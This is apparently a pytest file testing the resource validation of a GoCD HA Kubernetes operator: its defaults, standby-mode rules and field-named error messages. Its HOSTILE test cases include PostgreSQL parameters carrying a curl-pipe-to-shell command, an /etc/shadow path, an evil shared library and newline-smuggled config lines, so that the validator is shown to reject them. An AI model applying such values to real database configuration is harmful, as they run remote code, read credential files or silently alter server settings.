"""The resource model: defaults, the standby mode rules, and readable errors for bad input."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from gocd_ha_operator.api.spec import parse_cluster
from gocd_ha_operator.api.validation import SpecError

Body = Callable[..., dict[str, Any]]


def test_minimal_resource_gets_every_default(body: Body) -> None:
    cluster = parse_cluster(body())
    spec = cluster.spec
    assert spec.gocd.image == "gocd/gocd-server:v26.1.0"
    assert spec.gocd.effective_standby_mode == "Cold"
    assert spec.postgres.image == "postgres:17"
    assert spec.postgres.database == "gocd"
    assert spec.failover.mode == "Manual"
    assert spec.failover.primary_unavailable_seconds == 60
    assert spec.failover.max_lag_bytes == 16 * 1024 * 1024
    assert spec.failover.rejoin == "Automatic"
    assert spec.gocd.resources.limits == {"cpu": "2", "memory": "2Gi"}


def test_wire_format_is_camel_case(body: Body) -> None:
    api = parse_cluster(body()).spec.to_api()
    assert "sharedStorage" in api
    assert "storageClassName" in api["sharedStorage"]
    assert "primaryUnavailableSeconds" in api["failover"]
    assert "shared_storage" not in api


@pytest.mark.parametrize(
    ("image", "mode"),
    [
        ("gocd/gocd-server:v18.8.0", "Warm"),
        ("gocd/gocd-server:v20.5.0", "Warm"),
        ("gocd/gocd-server:21.2.0", "Warm"),
        ("gocd/gocd-server:v21.3.0", "Cold"),
        ("gocd/gocd-server:v26.1.0-1234", "Cold"),
    ],
)
def test_standby_mode_defaults_from_the_gocd_version(body: Body, image: str, mode: str) -> None:
    spec: dict[str, Any] = {"gocd": {"image": image}}
    if image.endswith("v18.8.0") or image.endswith("v20.5.0"):
        spec["gocd"]["businessContinuity"] = {
            "addon": {"url": "https://example.org/bc.jar", "sha256": "a" * 64}
        }
    assert parse_cluster(body(spec)).spec.gocd.effective_standby_mode == mode


def test_explicit_cold_mode_is_allowed_for_old_gocd(body: Body) -> None:
    cluster = parse_cluster(
        body({"gocd": {"image": "gocd/gocd-server:v21.2.0", "standbyMode": "Cold"}})
    )
    assert cluster.spec.gocd.effective_standby_mode == "Cold"


def test_digest_image_with_explicit_mode_is_accepted(body: Body) -> None:
    image = "gocd/gocd-server@sha256:" + "e" * 64
    cluster = parse_cluster(body({"gocd": {"image": image, "standbyMode": "Cold"}}))
    assert cluster.spec.gocd.version is None
    assert cluster.spec.gocd.effective_standby_mode == "Cold"


def test_quantities_written_as_numbers_become_strings(body: Body) -> None:
    cluster = parse_cluster(body({"postgres": {"resources": {"limits": {"cpu": 2}}}}))
    assert cluster.spec.postgres.resources.limits == {"cpu": "2"}


def test_existing_claim_alone_is_valid(body: Body) -> None:
    cluster = parse_cluster(
        body(sharedStorage=None, spec={}) | {"spec": {"sharedStorage": {"existingClaim": "rwx"}}}
    )
    assert cluster.spec.shared_storage.existing_claim == "rwx"


Case = tuple[str, dict[str, Any], str, str]

# Each case: a patch to the spec (or the whole body), the field path the error must name, and a
# fragment of what it must say is allowed or wrong.
INVALID: list[Case] = [
    ("unknown top field", {"spec": {"gocdd": {}}}, "spec.gocdd", "unknown field (allowed: gocd"),
    ("unknown gocd field", {"spec": {"gocd": {"imag": "x"}}}, "spec.gocd.imag", "allowed: image"),
    (
        "password as plain field",
        {"spec": {"postgres": {"password": "x"}}},
        "spec.postgres.password",
        "unknown field",
    ),
    ("missing sharedStorage", {"spec": {"sharedStorage": None}}, "spec.sharedStorage", ""),
    (
        "shared without class",
        {"spec": {"sharedStorage": {"size": "1Gi", "storageClassName": None}}},
        "spec.sharedStorage.storageClassName",
        "ReadWriteMany",
    ),
    (
        "shared without size",
        {"spec": {"sharedStorage": {"size": None, "storageClassName": "nfs"}}},
        "spec.sharedStorage.size",
        "required unless existingClaim",
    ),
    (
        "shared claim and size",
        {"spec": {"sharedStorage": {"existingClaim": "x"}}},
        "spec.sharedStorage.existingClaim",
        "cannot be combined with size",
    ),
    (
        "shared bad size",
        {"spec": {"sharedStorage": {"size": "ten gigs"}}},
        "spec.sharedStorage.size",
        "does not match",
    ),
    (
        "warm with current gocd",
        {"spec": {"gocd": {"image": "gocd/gocd-server:v26.1.0", "standbyMode": "Warm"}}},
        "spec.gocd.standbyMode",
        "removed in 23.1.0",
    ),
    (
        "warm with 21.3",
        {"spec": {"gocd": {"image": "gocd/gocd-server:v21.3.0", "standbyMode": "Warm"}}},
        "spec.gocd.standbyMode",
        "disabled in GoCD 21.3.0",
    ),
    (
        "warm before tokens",
        {"spec": {"gocd": {"image": "gocd/gocd-server:v18.7.0", "standbyMode": "Warm"}}},
        "spec.gocd.standbyMode",
        "18.8.0",
    ),
    (
        "digest without mode",
        {"spec": {"gocd": {"image": "gocd/gocd-server@sha256:" + "f" * 64}}},
        "spec.gocd.standbyMode",
        "no version tag",
    ),
    (
        "latest without mode",
        {"spec": {"gocd": {"image": "gocd/gocd-server:latest"}}},
        "spec.gocd.standbyMode",
        "no version tag",
    ),
    (
        "bad mode",
        {"spec": {"gocd": {"standbyMode": "Hot"}}},
        "spec.gocd.standbyMode",
        "'Warm' or 'Cold'",
    ),
    (
        "image with space",
        {"spec": {"gocd": {"image": "gocd server"}}},
        "spec.gocd.image",
        "does not match",
    ),
    (
        "addon in cold mode",
        {
            "spec": {
                "gocd": {
                    "businessContinuity": {"addon": {"url": "https://x/a.jar", "sha256": "a" * 64}}
                }
            }
        },
        "spec.gocd.businessContinuity.addon",
        "only used in Warm",
    ),
    (
        "addon with 21.2",
        {
            "spec": {
                "gocd": {
                    "image": "gocd/gocd-server:v21.2.0",
                    "businessContinuity": {"addon": {"url": "https://x/a.jar", "sha256": "a" * 64}},
                }
            }
        },
        "spec.gocd.businessContinuity.addon",
        "built in",
    ),
    (
        "warm 20.5 without addon",
        {"spec": {"gocd": {"image": "gocd/gocd-server:v20.5.0"}}},
        "spec.gocd.businessContinuity.addon",
        "required for Warm",
    ),
    (
        "addon bad checksum",
        {
            "spec": {
                "gocd": {
                    "image": "gocd/gocd-server:v20.5.0",
                    "businessContinuity": {"addon": {"url": "https://x/a.jar", "sha256": "XYZ"}},
                }
            }
        },
        "spec.gocd.businessContinuity.addon.sha256",
        "does not match",
    ),
    (
        "addon ftp url",
        {
            "spec": {
                "gocd": {
                    "image": "gocd/gocd-server:v20.5.0",
                    "businessContinuity": {"addon": {"url": "ftp://x/a.jar", "sha256": "a" * 64}},
                }
            }
        },
        "spec.gocd.businessContinuity.addon.url",
        "does not match",
    ),
    (
        "token ref without key",
        {"spec": {"gocd": {"businessContinuity": {"tokenSecretRef": {"name": "tok"}}}}},
        "spec.gocd.businessContinuity.tokenSecretRef.key",
        "required",
    ),
    (
        "token ref bad name",
        {
            "spec": {
                "gocd": {"businessContinuity": {"tokenSecretRef": {"name": "Bad_Name", "key": "k"}}}
            }
        },
        "spec.gocd.businessContinuity.tokenSecretRef.name",
        "does not match",
    ),
    (
        "jvm option not an option",
        {"spec": {"gocd": {"jvmOptions": ["Xmx2g"]}}},
        "spec.gocd.jvmOptions",
        "must start with -",
    ),
    (
        "jvm option owned",
        {"spec": {"gocd": {"jvmOptions": ["-Dgo.server.mode=standby"]}}},
        "spec.gocd.jvmOptions",
        "manages for promotion",
    ),
    (
        "maintenance on old gocd",
        {
            "spec": {
                "gocd": {
                    "image": "gocd/gocd-server:v20.8.0",
                    "startPromotedInMaintenanceMode": True,
                    "businessContinuity": {},
                }
            }
        },
        "spec.gocd.startPromotedInMaintenanceMode",
        "20.9.0",
    ),
    (
        "service type",
        {"spec": {"gocd": {"service": {"type": "ExternalName"}}}},
        "spec.gocd.service.type",
        "ClusterIP",
    ),
    (
        "gocd storage size",
        {"spec": {"gocd": {"storage": {"size": "-5Gi"}}}},
        "spec.gocd.storage.size",
        "does not match",
    ),
    (
        "gocd resources unknown",
        {"spec": {"gocd": {"resources": {"limits": {"gpu": "1"}}}}},
        "spec.gocd.resources.limits",
        "allowed: cpu",
    ),
    (
        "artifacts without class",
        {"spec": {"gocd": {"artifacts": {"size": "1Gi"}}}},
        "spec.gocd.artifacts.storageClassName",
        "required",
    ),
    (
        "postgres 12",
        {"spec": {"postgres": {"image": "postgres:12"}}},
        "spec.postgres.image",
        "supported: 13-17",
    ),
    (
        "postgres 18",
        {"spec": {"postgres": {"image": "postgres:18-alpine"}}},
        "spec.postgres.image",
        "not supported",
    ),
    (
        "database reserved",
        {"spec": {"postgres": {"database": "postgres"}}},
        "spec.postgres.database",
        "reserved",
    ),
    (
        "database bad name",
        {"spec": {"postgres": {"database": "GoCD-db"}}},
        "spec.postgres.database",
        "does not match",
    ),
    (
        "owned parameter",
        {"spec": {"postgres": {"parameters": {"archive_command": "cp %p /x"}}}},
        "spec.postgres.parameters.archive_command",
        "managed by the operator",
    ),
    (
        "bad parameter name",
        {"spec": {"postgres": {"parameters": {"max connections": "5"}}}},
        "spec.postgres.parameters.max connections",
        "not a postgresql.conf parameter",
    ),
    (
        "parameter with newline",
        {"spec": {"postgres": {"parameters": {"work_mem": "4MB\narchive_mode = off"}}}},
        "spec.postgres.parameters.work_mem",
        "line break",
    ),
    (
        "parameter not string",
        {"spec": {"postgres": {"parameters": {"work_mem": 64}}}},
        "spec.postgres.parameters.work_mem",
        "valid string",
    ),
    (
        "synchronous not bool",
        {"spec": {"postgres": {"synchronous": "sometimes"}}},
        "spec.postgres.synchronous",
        "boolean",
    ),
    (
        "failover mode",
        {"spec": {"failover": {"mode": "Auto"}}},
        "spec.failover.mode",
        "'Manual' or 'Automatic'",
    ),
    (
        "failover too fast",
        {"spec": {"failover": {"primaryUnavailableSeconds": 1}}},
        "spec.failover.primaryUnavailableSeconds",
        "greater than or equal to 10",
    ),
    (
        "negative lag",
        {"spec": {"failover": {"maxLagBytes": -1}}},
        "spec.failover.maxLagBytes",
        "greater than or equal to 0",
    ),
    (
        "rejoin value",
        {"spec": {"failover": {"rejoin": "Never"}}},
        "spec.failover.rejoin",
        "'Automatic' or 'Manual'",
    ),
    ("name too long", {"metadata": {"name": "c" * 41}}, "metadata.name", "at most 40"),
    ("name not dns", {"metadata": {"name": "CI_Server"}}, "metadata.name", "does not match"),
    ("wrong apiVersion", {"apiVersion": "gocdha.io/v1"}, "apiVersion", "gocdha.io/v1alpha1"),
    ("wrong kind", {"kind": "GoCDCluster"}, "kind", "GoCDHACluster"),
]


def _parameter(name: str, value: str) -> dict[str, Any]:
    return {"spec": {"postgres": {"parameters": {name: value}}}}


def _parameter_case(case: str, name: str, value: str, fragment: str) -> Case:
    return (case, _parameter(name, value), f"spec.postgres.parameters.{name}", fragment)


# Hostile parameters, huge numbers and strange encodings (issue #13): each must be refused with a
# message naming the field and saying what is allowed.
INVALID += [
    (
        "tls secret without name",
        {"spec": {"tls": {"serverCertificateSecret": {}}}},
        "spec.tls.serverCertificateSecret.name",
        "",
    ),
    (
        "tls secret bad name",
        {"spec": {"tls": {"serverCertificateSecret": {"name": "Bad_Name"}}}},
        "spec.tls.serverCertificateSecret.name",
        "does not match",
    ),
    (
        "tls unknown field",
        {"spec": {"tls": {"serverCASecret": {"name": "ca"}}}},
        "spec.tls.serverCASecret",
        "allowed: serverCertificateSecret",
    ),
]

HOSTILE: list[Case] = [
    _parameter_case(
        "passphrase command", "ssl_passphrase_command", "sh -c 'curl x|sh'", "runs a shell"
    ),
    _parameter_case("ssl key file", "ssl_key_file", "/etc/shadow", "TLS settings"),
    _parameter_case("ssl on", "ssl", "on", "refused"),
    _parameter_case("library path", "dynamic_library_path", "/tmp", "load libraries"),
    _parameter_case("session preload", "session_preload_libraries", "evil", "shared libraries"),
    _parameter_case("local preload", "local_preload_libraries", "$libdir/x", "shared libraries"),
    _parameter_case(
        "shared preload unknown",
        "shared_preload_libraries",
        "pg_stat_statements, /tmp/evil.so",
        "allowed: auto_explain, pg_prewarm, pg_stat_statements",
    ),
    _parameter_case("archive library", "archive_library", "basic_archive", "managed by"),
    _parameter_case("apply delay", "recovery_min_apply_delay", "1h", "delayed standby"),
    _parameter_case("jit provider", "jit_provider", "/tmp/x", "shared library"),
    _parameter_case("fsync off", "fsync", "off", "corrupts"),
    _parameter_case("user namespace", "db_user_namespace", "on", "authenticate"),
    _parameter_case("unknown name", "max_conections", "100", "unknown parameter"),
    _parameter_case("mixed case owned", "Archive_Command", "x", "managed by"),
    _parameter_case("bool typo", "autovacuum", "maybe", "on or off"),
    _parameter_case("integer word", "max_connections", "lots", "an integer from 1 to 262143"),
    _parameter_case("integer too big", "max_connections", "1000000", "out of range"),
    _parameter_case("memory unit case", "work_mem", "64mb", "units are case-sensitive"),
    _parameter_case("memory beyond int", "shared_buffers", "99999999999TB", "out of range"),
    _parameter_case("memory exponent", "work_mem", "1e999999", "out of range"),
    _parameter_case("unit where none", "max_connections", "100ms", "takes none"),
    _parameter_case("time unit on memory", "work_mem", "5min", "not valid here"),
    _parameter_case("real not number", "random_page_cost", "fast", "not a number"),
    _parameter_case("real out of range", "checkpoint_completion_target", "2.5", "from 0 to 1"),
    _parameter_case("enum value", "log_statement", "everything", "none, ddl, mod, all"),
    _parameter_case("nul byte", "work_mem", "4MB\x00", "NUL"),
    _parameter_case("carriage return", "search_path", "x\rarchive_mode=off", "line break"),
    _parameter_case("huge value", "search_path", "x" * 5000, "longer than 4096"),
    _parameter_case("unicode name", "wörk_mem", "1", "not a postgresql.conf"),
    _parameter_case(
        "removed in the image's version", "old_snapshot_threshold", "5", "removed in 17"
    ),
    (
        "newer than the image's version",
        {"spec": {"postgres": {"image": "postgres:13", "parameters": {"recovery_prefetch": "on"}}}},
        "spec.postgres.parameters.recovery_prefetch",
        "not a parameter of PostgreSQL 13 (added in 15)",
    ),
    (
        "synchronous off",
        {"spec": {"postgres": {"synchronous": True, "parameters": {"synchronous_commit": "off"}}}},
        "spec.postgres.parameters.synchronous_commit",
        "allowed: on, remote_write, remote_apply",
    ),
    (
        "lag beyond int64",
        {"spec": {"failover": {"maxLagBytes": 2**64}}},
        "spec.failover.maxLagBytes",
        "less than or equal to 9223372036854775807",
    ),
    (
        "seconds huge",
        {"spec": {"failover": {"cooldownSeconds": 10**30}}},
        "spec.failover.cooldownSeconds",
        "less than or equal to 86400",
    ),
    (
        "seconds float",
        {"spec": {"failover": {"primaryUnavailableSeconds": 12.5}}},
        "spec.failover.primaryUnavailableSeconds",
        "integer",
    ),
    (
        "storage exponent",
        {"spec": {"postgres": {"storage": {"size": "1e999999"}}}},
        "spec.postgres.storage.size",
        "out of range",
    ),
    (
        "storage exabytes",
        {"spec": {"postgres": {"storage": {"size": "8Ei"}}}},
        "spec.postgres.storage.size",
        "allowed: 1Mi to 1Pi",
    ),
    (
        "storage millibytes",
        {"spec": {"gocd": {"storage": {"size": "1500m"}}}},
        "spec.gocd.storage.size",
        "whole number of bytes",
    ),
    (
        "storage tiny",
        {"spec": {"sharedStorage": {"size": "1Ki"}}},
        "spec.sharedStorage.size",
        "allowed: 1Mi to 1Pi",
    ),
    (
        "memory limit overflow",
        {"spec": {"postgres": {"resources": {"limits": {"memory": "99999Ei"}}}}},
        "spec.postgres.resources.limits.memory",
        "out of range",
    ),
    (
        "cpu below a milli",
        {"spec": {"gocd": {"resources": {"requests": {"cpu": "0.0001"}}}}},
        "spec.gocd.resources.requests.cpu",
        "smallest quantity",
    ),
    (
        "unicode digits in size",
        {"spec": {"postgres": {"storage": {"size": "\u0661\u0660Gi"}}}},
        "spec.postgres.storage.size",
        "does not match",
    ),
]
INVALID += HOSTILE


def _apply(base: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
    result = dict(base)
    for key, value in patch.items():
        if value is None:
            result.pop(key, None)
        elif isinstance(value, dict) and isinstance(result.get(key), dict):
            result[key] = _apply(result[key], value)
        else:
            result[key] = value
    return result


@pytest.mark.parametrize(
    ("case", "patch", "path", "fragment"), INVALID, ids=[c[0] for c in INVALID]
)
def test_invalid_resource_names_the_field(
    body: Body, case: str, patch: dict[str, Any], path: str, fragment: str
) -> None:
    with pytest.raises(SpecError) as excinfo:
        parse_cluster(_apply(body(), patch))
    paths = [p.path for p in excinfo.value.problems]
    assert path in paths, f"{case}: {excinfo.value}"
    message = next(p.message for p in excinfo.value.problems if p.path == path)
    assert fragment in message, f"{case}: {message}"


def test_there_are_at_least_thirty_distinct_invalid_cases() -> None:
    assert len({case for case, *_ in INVALID}) == len(INVALID) >= 30
    assert len(HOSTILE) >= 20


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("work_mem", "64MB"),
        ("work_mem", "1.5GB"),
        ("shared_buffers", "16384"),
        ("statement_timeout", "5min"),
        ("deadlock_timeout", "1 s"),
        ("wal_buffers", "-1"),
        ("random_page_cost", "1.1"),
        ("autovacuum", "ON"),
        ("jit", "false"),
        ("log_statement", "DDL"),
        ("default_transaction_isolation", "repeatable read"),
        ("shared_preload_libraries", "pg_stat_statements, auto_explain"),
        ("auto_explain.log_min_duration", "5s"),
        ("search_path", "'$user', public"),
        ("synchronous_commit", "remote_apply"),
    ],
)
def test_well_typed_parameters_are_accepted(body: Body, name: str, value: str) -> None:
    cluster = parse_cluster(body({"postgres": {"parameters": {name: value}, "synchronous": True}}))
    assert cluster.spec.postgres.parameters == {name: value}


def test_every_bad_parameter_is_reported_on_its_own_line(body: Body) -> None:
    parameters = {"fsync": "off", "work_mem": "lots", "ssl_cert_file": "/x", "max_connections": "9"}
    with pytest.raises(SpecError) as excinfo:
        parse_cluster(body({"postgres": {"parameters": parameters}}))
    assert [p.path for p in excinfo.value.problems] == [
        "spec.postgres.parameters.fsync",
        "spec.postgres.parameters.work_mem",
        "spec.postgres.parameters.ssl_cert_file",
    ]


def test_version_ranges_apply_only_when_the_tag_says_the_version(body: Body) -> None:
    image = "registry.example/postgres@sha256:" + "a" * 64
    parameters = {"old_snapshot_threshold": "5", "transaction_timeout": "1min"}
    cluster = parse_cluster(body({"postgres": {"image": image, "parameters": parameters}}))
    assert cluster.spec.postgres.parameters == parameters
    with pytest.raises(SpecError, match="transaction_timeout: not a parameter of PostgreSQL 16"):
        parse_cluster(body({"postgres": {"image": "postgres:16", "parameters": parameters}}))


def test_quantities_at_the_bounds_are_accepted(body: Body) -> None:
    cluster = parse_cluster(
        body(
            {
                "postgres": {"storage": {"size": "1Pi"}},
                "gocd": {"storage": {"size": "1Mi"}, "resources": {"limits": {"cpu": "1m"}}},
                "failover": {"maxLagBytes": 2**63 - 1},
            }
        )
    )
    assert cluster.spec.failover.max_lag_bytes == 2**63 - 1


def test_every_problem_is_reported_at_once(body: Body) -> None:
    bad = _apply(
        body(), {"spec": {"gocd": {"imag": "x"}, "failover": {"mode": "x", "maxLagBytes": -5}}}
    )
    with pytest.raises(SpecError) as excinfo:
        parse_cluster(bad)
    assert {p.path for p in excinfo.value.problems} >= {
        "spec.gocd.imag",
        "spec.failover.mode",
        "spec.failover.maxLagBytes",
    }
    assert str(excinfo.value).count("\n") == len(excinfo.value.problems) - 1


def test_errors_never_echo_a_secret_looking_value_from_an_unknown_field(body: Body) -> None:
    bad = _apply(body(), {"spec": {"postgres": {"password": "hunter2-very-secret"}}})
    with pytest.raises(SpecError) as excinfo:
        parse_cluster(bad)
    assert "hunter2-very-secret" not in str(excinfo.value)


def test_status_written_by_another_version_is_tolerated(body: Body) -> None:
    cluster = parse_cluster(body(status={"primary": "b", "someFutureField": 1}))
    assert cluster.status.primary == "b"
